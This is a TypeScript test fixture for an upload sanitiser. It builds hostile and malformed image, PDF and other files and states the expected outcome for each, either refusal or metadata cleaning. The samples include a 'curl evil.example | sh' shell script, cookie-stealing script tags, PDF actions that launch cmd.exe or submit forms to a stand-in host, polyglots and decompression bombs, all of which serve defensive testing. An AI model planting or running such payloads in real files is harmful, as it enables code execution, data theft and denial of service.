/** Files as attackers, and telephones, send them: each with what must become of it. For tests. */
import { crc32, deflateSync } from 'node:zlib';
import type { FileFault } from './fault.ts';

const bytes = (...parts: (string | number[] | Uint8Array)[]) => Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))));
const big = (value: number) => { const out = Buffer.alloc(4); out.writeUInt32BE(value >>> 0); return out; };
const little = (value: number) => { const out = Buffer.alloc(4); out.writeUInt32LE(value >>> 0); return out; };
/** What must never come through. */
export const secret = 'GPS 52.3702N 4.8952E';

// ── JPEG ──
const segment = (marker: number, content: Uint8Array | string) => { const body = bytes(content); return bytes([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 255], body); };
const exif = (turned: number) => segment(0xe1, bytes('Exif\0\0MM\0*\0\0\0\x08', [0, 1, 0x01, 0x12, 0, 3, 0, 0, 0, 1, 0, turned, 0, 0, 0, 0, 0, 0], secret));
const frame = (width: number, height: number, marker = 0xc0) => segment(marker, bytes([8, height >> 8, height & 255, width >> 8, width & 255, 1, 1, 0x11, 0]));
const scan = bytes(segment(0xda, bytes([1, 1, 0, 0, 63, 0])), [0x12, 0x34, 0xff, 0x00, 0x56, 0xff, 0xd0, 0x78]);
const tables = bytes(segment(0xdb, bytes([0], Buffer.alloc(64, 1))), segment(0xc4, bytes([0], Buffer.alloc(17, 1))));
const jpeg = (...inside: Uint8Array[]) => bytes([0xff, 0xd8], ...inside, [0xff, 0xd9]);
export const plainJpeg = jpeg(segment(0xe0, 'JFIF\0\x01\x01\0\0\x01\0\x01\0\0'), tables, frame(640, 480), scan);

// ── PNG ──
const chunk = (type: string, content: Uint8Array | string = '') => { const body = bytes(type, content); return bytes(big(body.length - 4), body, big(crc32(body))); };
const header = (width: number, height: number) => chunk('IHDR', bytes(big(width), big(height), [8, 2, 0, 0, 0]));
const pixels = chunk('IDAT', deflateSync(Buffer.alloc(4)));
const png = (...inside: Uint8Array[]) => bytes('\x89PNG\r\n\x1a\n', ...inside, chunk('IEND'));
export const plainPng = png(header(1, 1), pixels);

// ── WebP ──
const riff = (type: string, content: Uint8Array | string) => { const body = bytes(content); return bytes(type, little(body.length), body, body.length % 2 ? [0] : []); };
const lossless = (width = 10, height = 10) => riff('VP8L', bytes([0x2f], little((width - 1) | ((height - 1) << 14)), 'picture'));
const extended = (width: number, height: number, flags = 0x0c) => riff('VP8X', bytes([flags, 0, 0, 0], little(width - 1).subarray(0, 3), little(height - 1).subarray(0, 3)));
const webp = (...inside: Uint8Array[]) => { const body = bytes('WEBP', ...inside); return bytes('RIFF', little(body.length), body); };
export const plainWebp = webp(lossless());

// ── PDF ──
const pdf = (inside: Uint8Array | string) => bytes('%PDF-1.7\n', inside, '\ntrailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n');
const catalog = '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj 2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj';
const stream = (dict: string, content: Uint8Array) => bytes(`5 0 obj << ${dict} /Length ${content.length} >> stream\n`, content, '\nendstream endobj ');
const packed = (content: string | Uint8Array) => deflateSync(bytes(content));
export const plainPdf = pdf(bytes(catalog, stream('/Filter /FlateDecode', packed('BT (Uitslag) Tj ET')), stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed('7 0 << /Type /Font >>'))));
const withAction = (action: string) => pdf(`${catalog} 3 0 obj << /S ${action} >> endobj`);

const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>';
const html = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';

export interface HostileFile { name: string; bytes: Uint8Array; /** Refused for it, or taken without `secret` and script. */ becomes: FileFault | 'cleaned' }
const file = (name: string, content: Uint8Array | string, becomes: HostileFile['becomes']): HostileFile => ({ name, bytes: bytes(content), becomes });
export const hostileFiles: readonly HostileFile[] = [
  file('nothing', '', 'empty'), file('one byte', 'x', 'type'), file('text', 'Alleen maar tekst, geen foto of PDF.', 'type'),
  file('SVG with script', svg, 'type'), file('SVG behind an XML head', `<?xml version="1.0"?>${svg}`, 'type'), file('HTML', html, 'type'),
  file('a program for Windows', bytes('MZ', Buffer.alloc(200)), 'type'), file('a program for Linux', bytes('\x7fELF', Buffer.alloc(200)), 'type'), file('a shell script', '#!/bin/sh\ncurl evil.example | sh\n', 'type'), file('an archive', bytes('PK\x03\x04', Buffer.alloc(200)), 'type'),
  file('a GIF with script in it', bytes('GIF89a', html), 'type'), file('a TIFF', bytes('MM\0*\0\0\0\x08', Buffer.alloc(40)), 'type'), file('an old Word file', bytes('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1', Buffer.alloc(40)), 'type'),
  file('HEIC of a telephone', bytes('\0\0\0\x18ftypheic\0\0\0\0mif1heic', Buffer.alloc(40)), 'heic'), file('AVIF', bytes('\0\0\0\x18ftypavif\0\0\0\0', Buffer.alloc(40)), 'heic'),
  file('JPEG with the place in its Exif', jpeg(exif(1), tables, frame(640, 480), scan), 'cleaned'), file('JPEG on its side, with the place', jpeg(exif(6), tables, frame(640, 480), scan), 'cleaned'),
  file('JPEG with XMP, IPTC and a comment', jpeg(segment(0xe1, `http://ns.adobe.com/xap/1.0/\0${secret}`), segment(0xed, secret), segment(0xfe, html), tables, frame(640, 480), scan), 'cleaned'),
  file('JPEG with a page and an archive after its end', bytes(plainJpeg, html, 'PK\x03\x04', secret), 'cleaned'), file('JPEG with the place between two scans', jpeg(tables, frame(640, 480, 0xc2), scan, segment(0xfe, secret), scan), 'cleaned'),
  file('JPEG of a billion pixels', jpeg(tables, frame(60_000, 60_000), scan), 'pixels'), file('JPEG without a height', jpeg(tables, frame(640, 0), scan), 'damaged'), file('JPEG with two frames', jpeg(tables, frame(1, 1), frame(60, 60), scan), 'damaged'),
  file('JPEG cut off', plainJpeg.subarray(0, plainJpeg.length - 6), 'damaged'), file('JPEG that claims a longer segment than there is', bytes([0xff, 0xd8, 0xff, 0xe1, 0xff, 0xff], Buffer.alloc(40)), 'damaged'), file('JPEG head before a page', bytes('\xff\xd8\xff', html), 'damaged'),
  file('PNG with text, time and Exif', png(header(1, 1), chunk('tEXt', `Location\0${secret}`), chunk('iTXt', `a\0\0\0\0\0${html}`), chunk('eXIf', secret), pixels), 'cleaned'), file('PNG with a page after its end', bytes(plainPng, html, secret), 'cleaned'),
  file('PNG with a bomb in its profile', png(header(1, 1), chunk('iCCP', bytes('p\0\0', deflateSync(Buffer.alloc(20_000_000)))), pixels), 'cleaned'), file('PNG of four billion pixels', png(header(65_535, 65_535), pixels), 'pixels'),
  file('PNG with a wrong sum', (() => { const made = Buffer.from(plainPng); made[40]! ^= 255; return made; })(), 'damaged'), file('PNG without a picture', png(header(1, 1)), 'damaged'), file('PNG whose chunk ends outside', bytes('\x89PNG\r\n\x1a\n', header(1, 1), big(0x7fffffff), 'IDAT'), 'damaged'),
  file('WebP with Exif and XMP', webp(extended(10, 10), lossless(), riff('EXIF', secret), riff('XMP ', html)), 'cleaned'), file('WebP with a page after its end', bytes(plainWebp, html, secret), 'cleaned'), file('WebP of 268 million pixels', webp(lossless(16_384, 16_384)), 'pixels'), file('WebP that moves', webp(extended(10, 10, 2), riff('ANIM', Buffer.alloc(6)), lossless()), 'type'),
  file('PDF with JavaScript', withAction('/JavaScript /JS (app.alert(1))'), 'active'), file('PDF with JavaScript in an escaped name', withAction('/J#61va#53cript /JS (app.alert(1))'), 'active'), file('PDF that starts a program', withAction('/Launch /F (cmd.exe)'), 'active'), file('PDF that sends a form', withAction('/SubmitForm /F (https://evil.example)'), 'active'),
  file('PDF that says who made it, with what and when', pdf(`${catalog} 3 0 obj << /Author (${secret} \\(thuis\\) (a \\) b)) /Title <${Buffer.from(secret).toString('hex')}> /Producer (${secret}) >> endobj 4 0 obj (wat op een bladzijde staat) endobj trailer << /Info 3 0 R >>`), 'cleaned'),
  file('PDF whose maker stands in an object of its own', pdf(`${catalog} 3 0 obj << /Author 13 0 R >> endobj 13 0 obj (${secret}) endobj trailer << /Info 3 0 R >>`), 'cleaned'),
  file('PDF whose maker is packed', pdf(bytes(catalog, stream('/Type /ObjStm /N 2 /First 9 /Filter /FlateDecode', packed(`3 0 13 90 ${`<< /Author 13 0 R /Keywords (${secret}) >>`.padEnd(90)}(${secret})`)), 'trailer << /Info 3 0 R >>')), 'cleaned'),
  file('PDF with XMP', pdf(bytes(catalog, stream('/Type /Metadata /Subtype /XML', bytes(`<x:xmpmeta>${secret}</x:xmpmeta>`)))), 'cleaned'), file('PDF with packed XMP', pdf(bytes(catalog, stream('/Type /Metadata /Subtype /XML /Filter /FlateDecode', packed(`<x:xmpmeta>${secret}</x:xmpmeta>`)))), 'cleaned'),
  file('PDF that hides who made it behind an escape', pdf(`${catalog} 3 0 obj << /Author (${secret}) >> endobj trailer << /In#66o 3 0 R >>`), 'author'), file('PDF with its maker in the trailer', pdf(`${catalog} trailer << /Info << /Author (${secret}) >> >>`), 'author'),
  file('PDF with a file in it', pdf(`${catalog} 3 0 obj << /Type /EmbeddedFile >> endobj`), 'active'), file('PDF with JavaScript in an object stream', pdf(bytes(catalog, stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed('7 0 << /S /JavaScript /JS (1) >>')))), 'active'),
  file('PDF with an object stream that cannot be read', pdf(bytes(catalog, stream('/Type /ObjStm /N 1 /First 4 /Filter [/ASCIIHexDecode /FlateDecode]', packed('7 0 << >>')))), 'damaged'), file('PDF with an encrypted inside', bytes('%PDF-1.7\n', catalog, '\ntrailer << /Root 1 0 R /Encrypt 9 0 R >>\n%%EOF'), 'encrypted'),
  file('PDF that unpacks to 200 MB', pdf(bytes(catalog, stream('/Filter /FlateDecode', packed(Buffer.alloc(200_000_000))))), 'unpacks'), file('PDF cut off', bytes('%PDF-1.7\n', catalog, Buffer.alloc(3000, 32)), 'damaged'),
];
